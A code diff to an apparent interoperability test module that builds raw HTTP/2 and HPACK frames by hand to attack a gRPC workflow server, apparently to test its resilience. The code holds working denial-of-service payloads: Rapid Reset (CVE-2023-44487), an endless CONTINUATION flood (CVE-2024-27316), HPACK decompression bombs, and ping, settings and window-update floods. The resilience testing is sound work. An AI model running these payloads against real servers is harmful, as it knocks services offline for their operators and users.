@@ -4,6 +4,10 @@ Run as `python -m tests.interop.attacks.grpc_attacker JSON`; the JSON has `kind`
 they are wanted `connections` (at once), `tls` with `certificate` and `key`, and `local` (our own addresses, taken in
 turn). Each connection that is closed is opened again. Prints as JSON how many connections were made, how many of them
 were closed by the server, and how many bytes were sent.
+
+HTTP/2 frames (RFC 9113) and header blocks (RFC 7541) are made by hand: an attacker sends what no library would. The
+first header block of a connection adds its four long fields to the receiver's table, and `AGAIN` names them by their
+numbers there: a request of 15 bytes, the cheapest that there is for whoever sends it.
 """
 
 from __future__ import annotations
@@ -22,32 +26,11 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from typing import Any
 
-from tests.interop.attacks.frames import (
-    AGAIN,
-    CANCEL,
-    CONTINUATION,
-    DATA,
-    END_HEADERS,
-    END_STREAM,
-    HEADERS,
-    HEALTH,
-    OLDER,
-    OLDEST,
-    OUTPUT,
-    PING,
-    PREFACE,
-    REFLECTION,
-    RESET,
-    SETTINGS,
-    UNACKNOWLEDGED,
-    WINDOW_UPDATE,
-    WORKFLOWS,
-    block,
-    frame,
-    message,
-    text,
-)
-
+DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+END_STREAM = ACK = 0x1
+END_HEADERS = 0x4
+WORKFLOWS = "internal.proto.workflow.v2.WorkflowService"
+OLDER = "proto.WorkflowService"
 _LAST_STREAM = 2**31 - 1
 _CHUNK = 1000
 _PAUSE = 0.05
@@ -56,9 +39,49 @@ _PAUSE = 0.05
 # --- what is sent: pieces of bytes; after the last of them the connection is held -------------------------------------
 
 Pieces = Iterator[bytes]
+Rest = Callable[[int], bytes]
+"""What follows the headers of a request on a stream."""
 
 
-def _streams(first: bytes, again: bytes, rest: Callable[[int], bytes], most: int = _LAST_STREAM) -> Pieces:
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def text(value: bytes) -> bytes:
+    """A string that is not Huffman coded; its length is an integer with a prefix of seven bits."""
+    if len(value) < 127:
+        return bytes((len(value),)) + value
+    length, rest = bytearray((127,)), len(value) - 127
+    while rest >= 128:
+        length.append(rest % 128 | 128)
+        rest //= 128
+    return bytes((*length, rest)) + value
+
+
+def message(body: bytes) -> bytes:
+    """A gRPC message that is not compressed."""
+    return b"\0" + len(body).to_bytes(4, "big") + body
+
+
+def block(service: str, method: str) -> bytes:
+    """The headers of a call, put into the receiver's table."""
+    path = text(f"/{service}/{method}".encode())
+    te = text(b"te") + text(b"trailers")
+    return b"\x83\x86\x44" + path + b"\x41" + text(b"attack") + b"\x40" + te + b"\x5f" + text(b"application/grpc")
+
+
+AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"
+"""The same headers once more; with one more field in the table, that one is `\xbe` and the others one further."""
+AGAIN_WITH = b"\x83\x86\xc2\xc1\xc0\xbf"
+GET_WORKFLOWS = block(WORKFLOWS, "GetWorkflows")
+LARGE = text(b"y" * 3800)
+UNACKNOWLEDGED = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
+"""The limit of a header block does not bind a client that has not acknowledged it (RFC 9113 section 6.5.3)."""
+PREFACE = UNACKNOWLEDGED + frame(SETTINGS, ACK, 0)
+"""It acknowledges the server's settings before they have come."""
+
+
+def _streams(first: bytes, again: bytes, rest: Rest, most: int = _LAST_STREAM) -> Pieces:
     """Requests, one after the other, each followed by `rest(stream)`."""
     yield PREFACE + frame(HEADERS, END_HEADERS, 1, first) + rest(1)
     head = len(again).to_bytes(3, "big") + bytes((HEADERS, END_HEADERS))
@@ -67,139 +90,50 @@ def _streams(first: bytes, again: bytes, rest: Callable[[int], bytes], most: int
         yield b"".join(head + struct.pack(">I", stream) + again + rest(stream) for stream in streams)
 
 
+def _calls(service: str, method: str, rest: Rest, most: int = _LAST_STREAM) -> Callable[[], Pieces]:
+    return lambda: _streams(block(service, method), AGAIN, rest, most)
+
+
 def _reset(stream: int) -> bytes:
-    return frame(RESET, 0, stream, CANCEL)
+    return frame(RESET, 0, stream, struct.pack(">I", 8))  # CANCEL
 
 
-def _whole(body: bytes) -> Callable[[int], bytes]:
+def _nothing(_stream: int) -> bytes:
+    return b""
+
+
+def _whole(body: bytes) -> Rest:
     return lambda stream: frame(DATA, END_STREAM, stream, message(body))
 
 
-def rapid_reset() -> Pieces:
-    """CVE-2023-44487: each request is taken back at once."""
-    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, _reset)
+def _open(body: bytes) -> Rest:
+    """A message after which more may come."""
+    return lambda stream: frame(DATA, 0, stream, message(body))
 
 
-def reset_after_message() -> Pieces:
-    """The same, but a whole request has arrived."""
-    body = frame(DATA, END_STREAM, 0, message(b"\x0a\x01x"))
-
-    def rest(stream: int) -> bytes:
-        return body[:5] + struct.pack(">I", stream) + body[9:] + _reset(stream)
-
-    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, rest)
+_asks_for_x = _whole(b"\x0a\x01x")
+"""A whole request for a machine that does not exist."""
 
 
-def calls() -> Pieces:
-    """Whole requests, for a machine that does not exist."""
-    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, _whole(b"\x0a\x01x"))
+def _for_ever(piece: bytes, opening: bytes = b"") -> Callable[[], Pieces]:
+    return lambda: itertools.chain([PREFACE + opening], itertools.repeat(piece))
 
 
-def polls() -> Pieces:
-    """tink-agent asks for work, for a machine that does not exist."""
-    return _streams(block(OLDER, "GetAction"), AGAIN, _whole(b"\x0a\x01x"))
-
-
-def contexts() -> Pieces:
-    """tink-worker v0.8 does."""
-    return _streams(block(OLDEST, "GetWorkflowContexts"), AGAIN, _whole(b"\x0a\x01x"))
-
-
-def reports() -> Pieces:
-    """Reports of which half has come, and the other half is another dialect's."""
-    return _streams(block(OLDER, "ReportActionStatus"), AGAIN, _whole(b"\x0a\x01x\x20\x04\x22\x7fx"))
-
-
-def unended_polls() -> Pieces:
-    """Polls whose message never comes."""
-    return _streams(block(OLDER, "GetAction"), AGAIN, lambda _: b"", 20_000)
-
-
-def unknown_method() -> Pieces:
-    return _streams(block("no.such", "Method"), AGAIN, _whole(b""))
-
-
-def unended() -> Pieces:
-    """Requests whose message never comes."""
-    return _streams(block(WORKFLOWS, "GetWorkflows"), AGAIN, lambda _: b"", 20_000)
-
-
-def watches() -> Pieces:
-    """Calls that the health service keeps open for ever."""
-    return _streams(block(HEALTH, "Watch"), AGAIN, _whole(b""), 20_000)
-
-
-def reflections() -> Pieces:
-    """Calls that reflection keeps open, for the caller may ask more."""
-    asked = message(b"\x3a\x00")  # list_services
-    return _streams(
-        block(REFLECTION, "ServerReflectionInfo"), AGAIN, lambda stream: frame(DATA, 0, stream, asked), 20_000
-    )
-
-
-def outputs() -> Pieces:
-    """Calls of the output service of which nothing comes."""
-    return _streams(block(OUTPUT, "WriteOutput"), AGAIN, lambda _: b"", 20_000)
-
-
-def metadata() -> Pieces:
-    """Requests with as much metadata as they may have, in the receiver's table, so that it costs the sender nothing."""
-    field_ = b"\x40" + text(b"x-large") + text(b"y" * 3800)
-    first = block(WORKFLOWS, "GetWorkflows") + field_
-    again = b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 2
-    return _streams(first, again, lambda _: b"", 20_000)
-
-
-def continuations() -> Pieces:
-    """A header block that has no end (CVE-2024-27316)."""
-    yield PREFACE + frame(HEADERS, 0, 1, block(WORKFLOWS, "GetWorkflows"))
-    piece = frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100)
-    for _ in itertools.count():
-        yield piece * 10
-
-
-def indexed_bomb() -> Pieces:
+def _indexed_bomb() -> Pieces:
     """A block of 16 kB that is 60 MB when it is unpacked."""
-    large = b"\x40" + text(b"x") + text(b"y" * 3800)
-    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows") + large)
+    yield PREFACE + frame(HEADERS, END_HEADERS, 1, GET_WORKFLOWS + b"\x40" + text(b"x") + LARGE)
     for stream in itertools.count(3, 2):
-        yield frame(HEADERS, END_HEADERS, stream, b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 16_000)
+        yield frame(HEADERS, END_HEADERS, stream, AGAIN_WITH + b"\xbe" * 16_000)
 
 
-def resting_bomb() -> Pieces:
+def _resting_bomb() -> Pieces:
     """Send 84 kB that expand to 300 MB, as a client that acknowledges no limit; then stay silent."""
-    large = b"\x40" + text(b"x" * 3800) + text(b"")
-    named = b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 4_000
-    first = UNACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows") + large)
-    yield first + b"".join(frame(HEADERS, END_HEADERS, stream, named) for stream in range(3, 43, 2))
+    first = GET_WORKFLOWS + b"\x40" + text(b"x" * 3800) + text(b"")
+    bombs = (frame(HEADERS, END_HEADERS, stream, AGAIN_WITH + b"\xbe" * 4_000) for stream in range(3, 43, 2))
+    yield UNACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, first) + b"".join(bombs)
 
 
-def pings() -> Pieces:
-    yield PREFACE
-    for _ in itertools.count():
-        yield frame(PING, 0, 0, b"attacker") * _CHUNK
-
-
-def settings() -> Pieces:
-    yield PREFACE
-    for _ in itertools.count():
-        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _CHUNK
-
-
-def windows() -> Pieces:
-    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows"))
-    for _ in itertools.count():
-        yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * _CHUNK
-
-
-def empty_data() -> Pieces:
-    """Frames of a message that never begins."""
-    yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "GetWorkflows"))
-    for _ in itertools.count():
-        yield frame(DATA, 0, 1) * _CHUNK
-
-
-def slow_bodies() -> Pieces:
+def _slow_bodies() -> Pieces:
     """Messages that come byte by byte."""
     yield PREFACE + frame(HEADERS, END_HEADERS, 1, block(WORKFLOWS, "PublishEvent"))
     yield b"".join(frame(HEADERS, END_HEADERS, stream, AGAIN) for stream in range(3, 200, 2))
@@ -209,28 +143,44 @@ def slow_bodies() -> Pieces:
         yield b"".join(frame(DATA, 0, stream, body) for stream in range(1, 200, 2))
 
 
-def idle() -> Pieces:
-    """Nothing at all."""
-    yield b""
-
-
-def preface() -> Pieces:
-    """The beginning of a connection, and nothing more."""
-    yield PREFACE
-
-
-def half_handshake() -> Pieces:
-    """The first bytes of a TLS handshake."""
-    yield bytes.fromhex("16030102000100")
-
-
+_A_CALL = frame(HEADERS, END_HEADERS, 1, GET_WORKFLOWS)
+_MORE_HEADERS = frame(CONTINUATION, 0, 1, (b"\x00" + text(b"x-a") + text(b"y" * 100)) * 100)
 KINDS: dict[str, Callable[[], Pieces]] = {
-    each.__name__: each
-    for each in (
-        *(rapid_reset, reset_after_message, calls, unknown_method, unended, watches, reflections, outputs),
-        *(metadata, continuations, indexed_bomb, resting_bomb, pings, settings, windows, empty_data, slow_bodies),
-        *(idle, preface, half_handshake, polls, contexts, reports, unended_polls),
-    )
+    # CVE-2023-44487: each request is taken back at once, or when the whole of it has arrived.
+    "rapid_reset": _calls(WORKFLOWS, "GetWorkflows", _reset),
+    "reset_after_message": _calls(WORKFLOWS, "GetWorkflows", lambda stream: _asks_for_x(stream) + _reset(stream)),
+    # Whole requests: of agents, of tink-agent, of tink-worker v0.8; a report of which half is another dialect's.
+    "calls": _calls(WORKFLOWS, "GetWorkflows", _asks_for_x),
+    "polls": _calls(OLDER, "GetAction", _asks_for_x),
+    "contexts": _calls(
+        "github.com.tinkerbell.tink.protos.workflow.WorkflowService", "GetWorkflowContexts", _asks_for_x
+    ),
+    "reports": _calls(OLDER, "ReportActionStatus", _whole(b"\x0a\x01x\x20\x04\x22\x7fx")),
+    "unknown_method": _calls("no.such", "Method", _whole(b"")),
+    # Calls whose message never comes, or that stay open when it has come.
+    "unended": _calls(WORKFLOWS, "GetWorkflows", _nothing, 20_000),
+    "unended_polls": _calls(OLDER, "GetAction", _nothing, 20_000),
+    "outputs": _calls("tinkedge.output.v1.OutputService", "WriteOutput", _nothing, 20_000),
+    "watches": _calls("grpc.health.v1.Health", "Watch", _whole(b""), 20_000),
+    "reflections": _calls(
+        "grpc.reflection.v1alpha.ServerReflection", "ServerReflectionInfo", _open(b"\x3a\x00"), 20_000
+    ),
+    # As much metadata as there may be, in the receiver's table, so that it costs the sender nothing.
+    "metadata": lambda: _streams(
+        GET_WORKFLOWS + b"\x40" + text(b"x-large") + LARGE, AGAIN_WITH + b"\xbe" * 2, _nothing, 20_000
+    ),
+    # A header block that has no end (CVE-2024-27316).
+    "continuations": _for_ever(_MORE_HEADERS * 10, frame(HEADERS, 0, 1, GET_WORKFLOWS)),
+    "indexed_bomb": _indexed_bomb,
+    "resting_bomb": _resting_bomb,
+    "pings": _for_ever(frame(PING, 0, 0, b"attacker") * _CHUNK),
+    "settings": _for_ever(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _CHUNK),
+    "windows": _for_ever(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * _CHUNK, _A_CALL),
+    "empty_data": _for_ever(frame(DATA, 0, 1) * _CHUNK, _A_CALL),
+    "slow_bodies": _slow_bodies,
+    "idle": lambda: iter([b""]),
+    "preface": lambda: iter([PREFACE]),
+    "half_handshake": lambda: iter([bytes.fromhex("16030102000100")]),
 }
 
 # --- how --------------------------------------------------------------------------------------------------------------
